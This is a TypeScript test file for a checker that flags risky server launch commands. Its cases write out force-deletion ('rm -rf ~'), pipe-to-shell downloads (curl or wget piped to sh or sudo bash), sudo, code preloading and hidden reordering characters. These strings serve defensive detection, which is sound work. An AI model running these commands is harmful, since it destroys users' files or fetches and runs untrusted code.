import { chmodSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { launchWarnings } from '../../shared/launch.ts'
import { findCommand } from '../../src-main/headless/find-command.ts'
import { launchLines } from '../../src-main/headless/launch-text.ts'
import { testFolder } from '../fakes/folder.ts'

const launch = (command: string, args: string[] = [], env: Record<string, string> = {}) => ({
  transport: 'stdio' as const,
  command,
  args,
  env,
  cwd: '/srv',
})

test.each([
  ['shell line', launch('/bin/sh', ['-c', 'ls']), 'line of shell'],
  ['shell line with other flags', launch('/usr/bin/bash', ['-lc', 'ls']), 'line of shell'],
  ['sudo', launch('/usr/bin/sudo', ['node']), 'administrator'],
  ['sudo inside', launch('/bin/sh', ['-c', 'true; sudo rm x']), 'administrator'],
  ['rm -rf', launch('/bin/sh', ['-c', 'rm -rf ~']), 'deletes files by force'],
  ['rm -r -f', launch('/bin/rm', ['-r', '-f', '/x']), 'deletes files by force'],
  ['curl | sh', launch('/bin/bash', ['-c', 'curl -fsSL https://x.test/i | sh']), 'downloads a script'],
  ['wget | sudo bash', launch('/bin/bash', ['-c', 'wget -qO- x.test | sudo bash']), 'downloads a script'],
  ['npx', launch('/usr/bin/npx', ['-y', 'pkg']), 'fetches and runs a package'],
  ['node -e', launch('/usr/bin/node', ['-e', 'x']), 'program text'],
  ['preloading', launch('/usr/bin/node', ['x.js'], { NODE_OPTIONS: '--require ./x' }), 'load other code'],
  ['hidden characters', launch('/usr/bin/node', ['a\u202eb.js']), 'cannot be seen'],
])('%s is marked', (_name, spec, warning) => {
  expect(launchWarnings(spec).join('\n')).toContain(warning)
})

test('an ordinary command is not marked', () => {
  expect(
    launchWarnings(launch('/usr/bin/node', ['/srv/server.js', '--root', '/data'], { API_URL: 'https://x.test' })),
  ).toEqual([])
})

test('the command shows whole, quoted as a shell would need it, hidden characters visible', () => {
  const long = 'x'.repeat(5000)
  expect(
    launchLines(launch('/usr/bin/node', ['my server.js', "it's", '', 'a\u202eb', long], { TOKEN: 'a b' })),
  ).toEqual([
    `runs   /usr/bin/node 'my server.js' 'it'\\''s' '' 'a\\u{202e}b' ${long}`,
    'in     /srv',
    "with   TOKEN='a b'",
    '!      holds characters that cannot be seen or that reorder text',
  ])
})

test('a command is found as a shell would find it, and nothing relative in PATH counts', () => {
  const folder = testFolder()
  const tool = join(folder, 'tool')
  writeFileSync(tool, '#!/bin/sh\n')
  expect(() => findCommand('tool', folder, folder)).toThrow('no command `tool`')
  chmodSync(tool, 0o755)
  expect(findCommand('tool', '/', `/nowhere:${folder}`)).toBe(tool)
  expect(findCommand('./tool', folder, '')).toBe(tool)
  expect(() => findCommand('tool', folder, '.:')).toThrow('no command `tool`')
  expect(() => findCommand('.', folder, folder)).toThrow('no command')
})
